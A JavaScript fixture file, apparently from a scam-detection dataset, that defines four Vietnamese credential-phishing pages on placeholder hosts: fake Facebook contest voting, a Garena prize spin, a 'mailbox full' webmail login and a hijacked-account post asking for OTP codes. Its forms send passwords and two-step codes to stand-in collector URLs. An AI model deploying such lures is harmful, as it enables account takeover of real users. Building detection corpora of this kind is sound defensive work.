import { mobile } from '../invented.js';
import { htmlDocument, postPage, shopPage, signInPage } from '../layouts/index.js';
import { scam } from './define.js';

/** Chiếm tài khoản mạng xã hội, trò chơi, thư điện tử. */
export const CRED_SOCIAL_SITES = [
  scam('cred_social', {
    host: 'binhchon-hoahau-nhi.example',
    layout: 'sign-in',
    note: 'Bình chọn cuộc thi bé ngoan, đăng nhập Facebook giả',
    page: signInPage({
      title: 'Bình chọn bé khỏe bé ngoan',
      brand: 'Cuộc thi Bé Khỏe Bé Ngoan 2026',
      colour: '#1877f2',
      text: 'Đăng nhập Facebook để bỏ phiếu cho SBD 071. Mỗi tài khoản một phiếu, chỉ mất 10 giây.',
      form: {
        action: 'https://thu-thap-vidu.invalid/log.php',
        fields: [
          { name: 'email', label: 'Email hoặc số điện thoại' },
          { name: 'pass', label: 'Mật khẩu Facebook', type: 'password' },
        ],
        button: 'Đăng nhập và bình chọn',
      },
      links: [{ text: 'Xem thể lệ', href: '/the-le' }],
      script: "document.addEventListener('contextmenu',function(e){e.preventDefault()});",
    }),
    more: {
      '/the-le': signInPage({
        title: 'Thể lệ',
        brand: 'Thể lệ bình chọn',
        colour: '#1877f2',
        text: 'Phiếu chỉ hợp lệ khi đăng nhập và nhập mã xác minh hai bước gửi về điện thoại.',
        form: {
          action: '/ma',
          fields: [{ name: 'code', label: 'Mã xác minh hai bước', type: 'tel' }],
          button: 'Gửi mã',
        },
      }),
    },
  }),
  scam('cred_social', {
    host: 'qua-game-lienquan.example',
    layout: 'shop',
    note: 'Vòng quay nhận quà trò chơi, lấy tài khoản Garena',
    page: shopPage({
      name: 'QUÀ GAME VIP',
      banner: 'VÒNG QUAY 0Đ – 100% TRÚNG TRANG PHỤC HIẾM',
      colour: '#e25822',
      goods: [
        ['Trang phục Rồng Thần', 'Miễn phí', '899.000đ'],
        ['9.999 kim cương', 'Miễn phí', '2.000.000đ'],
        ['Acc VIP full tướng', '0đ', '5.000.000đ'],
        ['Thẻ đổi tên', 'Tặng kèm', '50.000đ'],
      ],
      text: 'Nhập tài khoản Garena hoặc Facebook liên kết để quà gửi vào hòm thư. Quà hết trong 09:59. Không đổi mật khẩu trong 7 ngày kẻo bị thu hồi.',
      form: {
        action: '/quay',
        fields: [
          { name: 'taikhoan', label: 'Tài khoản game' },
          { name: 'matkhau', label: 'Mật khẩu', type: 'password' },
          {
            name: 'loai',
            label: 'Đăng nhập bằng',
            type: 'select',
            options: ['Garena', 'Facebook', 'Google'],
          },
        ],
        button: 'QUAY NGAY',
      },
      footer: 'Chương trình tri ân game thủ Việt.',
      script: 'var t=599;setInterval(function(){t--;document.title="Còn "+t+"s"},1000);',
    }),
  }),
  scam('cred_social', {
    host: 'hom-thu-day.example',
    layout: 'plain',
    note: 'Thông báo hộp thư đầy, đăng nhập lại thư công ty (song ngữ)',
    page: htmlDocument({
      title: 'Mailbox storage full – Hộp thư sắp bị xoá',
      lang: 'en',
      style:
        'body{background:#f3f2f1}.o{max-width:440px;margin:60px auto;background:#fff;padding:44px;box-shadow:0 2px 6px #0003}input{width:100%;padding:8px;border:0;border-bottom:1px solid #666;margin:10px 0}button{background:#0067b8;color:#fff;border:0;padding:10px 30px;float:right}.bar{height:10px;background:#d13438;width:98%}',
      body: `<div class="o"><b>Webmail Admin</b><h2>Your mailbox is 98% full</h2><div class="bar"></div><p>Hộp thư của bạn sẽ bị khóa và xóa dữ liệu trong 24 giờ. Đăng nhập để mở rộng dung lượng miễn phí.</p><form method="post" action="https://script.google.com/macros/s/vidu-thaotruong/exec"><input type="email" name="login" placeholder="Email"><input type="password" name="passwd" placeholder="Password"><button>Sign in</button></form></div>`,
    }),
  }),
  scam('cred_social', {
    host: 'mat-nick-xin-ma.mxh.example',
    layout: 'post',
    surface: 'post',
    note: 'Bài đăng từ nick bị chiếm: nhờ nhận hộ mã Telegram/Zalo',
    page: postPage({
      by: 'Hà Trang',
      at: 'Vừa xong',
      text: `Mọi người ơi mình đổi máy bị mất Zalo, bạn nào đọc giúp mình mã 6 số gửi về máy các bạn với, hệ thống bắt 2 bạn bè xác minh 🥺 Ai giúp mình gửi cà phê 200k liền.
Bình chọn giúp con gái mình nữa nha: https://binhchon-hoahau-nhi.example/ , đăng nhập là xong. Nhắn mình số mới ${mobile(281_717)}.`,
      reactions: '12 lượt thích · 7 bình luận',
      comments: [{ by: 'Linh', text: 'trang bị hack rồi phải không, gọi không nghe máy' }],
    }),
  }),
];
